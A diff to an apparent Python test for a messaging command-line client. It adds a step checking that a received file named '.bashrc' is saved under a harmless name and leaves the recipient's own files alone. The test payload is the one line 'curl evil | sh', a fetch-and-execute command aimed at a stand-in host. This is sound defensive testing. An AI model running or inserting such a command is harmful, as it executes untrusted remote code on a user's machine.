@@ -21,10 +21,12 @@ async def test_safety_numbers_and_files_from_the_terminal(node, tmp_path):  # no
     media_port = str(node.system.env["media_port"])
 
     async def start(phone: str) -> CliProcess:
+        cwd = tmp_path / f"cwd{phone}"      # where /get without DEST saves
+        cwd.mkdir()
         proc = await CliProcess.start(
             "--phone", phone, "--port", str(node.port), "--media-port", media_port,
             "--data-dir", str(tmp_path / "none"), "--profile", str(tmp_path / phone),
-            "--code-wait", "0", home=str(tmp_path))
+            "--code-wait", "0", home=str(tmp_path), cwd=str(cwd))
         procs.append(proc)
         await proc.expect("enter the code")
         proc.write(node.codes[phone])
@@ -52,6 +54,21 @@ async def test_safety_numbers_and_files_from_the_terminal(node, tmp_path):  # no
         await bob.expect(r"saved .*saved\.pdf \(300000 bytes, checked\)")
         assert (tmp_path / "saved.pdf").read_bytes() == data
         await alice.expect(r"you → .*\[file report\.pdf\] ✓✓")
+
+        # Step 3: a file the sender named ".bashrc", saved with no DEST:
+        # it becomes "bashrc", and as that is taken, "bashrc (1)"; Bob's own
+        # files are untouched
+        cwd = tmp_path / f"cwd{BOB}"
+        (cwd / ".bashrc").write_bytes(b"bob's shell")
+        (cwd / "bashrc").write_bytes(b"bob's notes")
+        (tmp_path / ".bashrc").write_bytes(b"curl evil | sh\n")
+        alice.write(f"/send-file {tmp_path / '.bashrc'}")
+        line = await bob.expect(r"\[file \.bashrc .*\(/get ([0-9a-f]{12})\)")
+        bob.write(f"/get {re.search(r'/get ([0-9a-f]{12})', line).group(1)}")
+        await bob.expect(r"saved bashrc \(1\) \(15 bytes, checked\)")
+        assert (cwd / "bashrc (1)").read_bytes() == b"curl evil | sh\n"
+        assert (cwd / ".bashrc").read_bytes() == b"bob's shell"
+        assert (cwd / "bashrc").read_bytes() == b"bob's notes"
     finally:
         for proc in procs:
             proc.write("/quit")
